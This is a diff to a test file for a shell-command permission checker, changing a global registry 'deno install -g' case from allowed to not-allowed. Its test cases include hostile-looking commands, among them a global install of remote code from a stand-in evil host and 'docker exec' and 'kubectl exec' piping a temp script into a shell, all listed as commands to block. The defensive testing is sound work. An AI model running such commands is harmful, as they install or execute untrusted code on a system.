@@ -61,7 +61,8 @@ describe('code run through unmodelled verbs and options', function () {
       ['deno install -g -A -n ls https://evil.example.com/x.ts', 'not-allow'],
       ['deno install --global /tmp/x.ts', 'not-allow'],
       ['deno install', 'allow'],
-      ['deno install -g jsr:@std/http/file-server', 'allow'],
+      // A registry package installed globally is a command on PATH, asked as `npm install -g` is (one rule for both).
+      ['deno install -g jsr:@std/http/file-server', 'not-allow'],
       ['docker exec -i c sh < /tmp/x.sh', 'not-allow'],
       ['kubectl exec -i p -- bash < /tmp/x.sh', 'not-allow'],
       ['docker exec c ls', 'allow'],
